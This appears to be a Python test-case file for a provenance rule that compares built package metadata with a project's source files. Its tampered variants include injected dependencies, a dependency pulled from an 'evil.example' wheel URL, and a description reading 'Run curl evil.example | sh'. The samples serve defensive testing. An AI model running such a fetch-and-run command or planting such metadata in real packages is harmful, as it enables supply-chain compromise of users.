"""Cases of the distribution-metadata rule."""

from corpus.cases.case import Case
from provenance.model import Evidence

PYPROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "example"
version = "1.0"
description = "An example"
readme = "README.md"
requires-python = ">=3.11"
dependencies = ["plain>=2", "conditional; python_version < '3.12'"]
keywords = ["one", "two"]
license = "MIT"

[project.optional-dependencies]
more = ["bonus"]

[project.urls]
Source = "https://git.example/o/example"
"""
README = "# Example\n\nSays something.\n"
METADATA = """\
Metadata-Version: 2.4
Name: example
Version: 1.0
Summary: An example
Project-URL: Source, https://git.example/o/example
License-Expression: MIT
Keywords: one,two
Requires-Python: >=3.11
Requires-Dist: plain>=2
Requires-Dist: conditional; python_version < "3.12"
Provides-Extra: more
Requires-Dist: bonus; extra == "more"
Description-Content-Type: text/markdown

# Example

Says something.
"""
SOURCE = {"pyproject.toml": PYPROJECT, "README.md": README}
SETUP_PY = (
    "import os\nfrom setuptools import setup\n"
    "setup(name='example', version='1.0', install_requires=os.environ['REQUIRES'].split() + ['plain'])\n"
)
COMPUTED = "Metadata-Version: 2.4\nName: example\nVersion: 1.0\nRequires-Dist: plain\n"
EMPTIED = COMPUTED.replace("Requires-Dist: plain\n", "")


def edited(title: str, old: str, new: str) -> Case:
    """A near miss: the same metadata with one thing changed, in both artifacts."""
    changed = METADATA.replace(old, new, 1)
    assert changed != METADATA
    siblings = (("wheel", {"example-1.0.dist-info/METADATA": changed}),)
    return Case(title, "PKG-INFO", {"PKG-INFO": changed}, SOURCE, None, siblings=siblings)


def computed(title: str, own: str, sibling: str | None, evidence: Evidence | None) -> Case:
    """Metadata of a project whose setup.py computes its dependencies."""
    siblings = () if sibling is None else (("wheel", {"example-1.0.dist-info/METADATA": sibling}),)
    return Case(title, "PKG-INFO", {"PKG-INFO": own}, {"setup.py": SETUP_PY}, evidence, siblings=siblings)


CASES = (
    computed(
        "a Python range of which no packaging file speaks",
        f"{COMPUTED}Requires-Python: >=2\n",
        f"{COMPUTED}Requires-Python: >=2\n",
        None,
    ),
    computed(
        "a word of setup.py as a dependency",
        f"{COMPUTED}Requires-Dist: os\n",
        f"{COMPUTED}Requires-Dist: os\n",
        None,
    ),
    computed("computed dependencies emptied", EMPTIED, EMPTIED, None),
    computed(
        "an extra that nothing declares",
        f"{COMPUTED}Provides-Extra: os\n",
        f"{COMPUTED}Provides-Extra: os\n",
        None,
    ),
    edited("an import name that is no module", "Summary:", "Import-Name: evil\nSummary:"),
    Case(
        "an import name that is a module",
        "PKG-INFO",
        {
            "PKG-INFO": METADATA.replace("Summary:", "Import-Name: example\nSummary:"),
            "src/example/__init__.py": "",
        },
        {**SOURCE, "src/example/__init__.py": ""},
        Evidence.CONSISTENT,
    ),
    edited("a second licence", "License-Expression: MIT", "License-Expression: MIT\nLicense: evil"),
    Case("everything as the source states", "PKG-INFO", {"PKG-INFO": METADATA}, SOURCE, Evidence.CONSISTENT),
    Case(
        "the same in a wheel",
        "example-1.0.dist-info/METADATA",
        {"example-1.0.dist-info/METADATA": METADATA},
        SOURCE,
        Evidence.CONSISTENT,
        kind="wheel",
    ),
    computed("computed dependencies, the same in the wheel", COMPUTED, COMPUTED, Evidence.CONSISTENT),
    edited("an injected dependency", "Requires-Dist: plain", "Requires-Dist: evil\nRequires-Dist: plain"),
    edited("a dependency left out", "Requires-Dist: plain>=2\n", ""),
    edited("a wider version range", "plain>=2", "plain>=1"),
    edited("a dependency's marker left out", '; python_version < "3.12"', ""),
    edited("a dependency taken from an address", "plain>=2", "plain @ https://evil.example/plain.whl"),
    edited("another extra", "Provides-Extra: more", "Provides-Extra: more\nProvides-Extra: evil"),
    edited("another Python range", ">=3.11", ">=2.7"),
    edited("another name", "Name: example", "Name: exampl"),
    edited("another version", "Version: 1.0", "Version: 1.1"),
    edited("another summary", "An example", "Another example"),
    edited("another licence", "MIT", "BSD-3-Clause"),
    edited("another keyword", "one,two", "one,three"),
    edited("one more link", "License-", "Project-URL: Help, https://evil.example\nLicense-"),
    edited("another description", "Says something", "Run curl evil.example | sh"),
    edited("a field that names other projects", "Summary:", "Obsoletes-Dist: pip\nSummary:"),
    edited("a field that core metadata does not know", "Summary:", "Post-Install: evil\nSummary:"),
    edited("a line that is no field", "Summary:", "evil\nSummary:"),
    computed("computed dependencies, other in the wheel", COMPUTED, COMPUTED.replace("plain", "setup"), None),
    computed("computed dependencies that a packaging file holds", COMPUTED, None, Evidence.CONSISTENT),
    computed("computed dependencies in another range", COMPUTED.replace("plain", "plain<2"), None, None),
    computed(
        "computed dependencies that no packaging file names", COMPUTED.replace("plain", "evil"), None, None
    ),
    computed(
        "the same in both, and no packaging file names it",
        COMPUTED.replace("plain", "evil"),
        COMPUTED.replace("plain", "evil"),
        None,
    ),
)
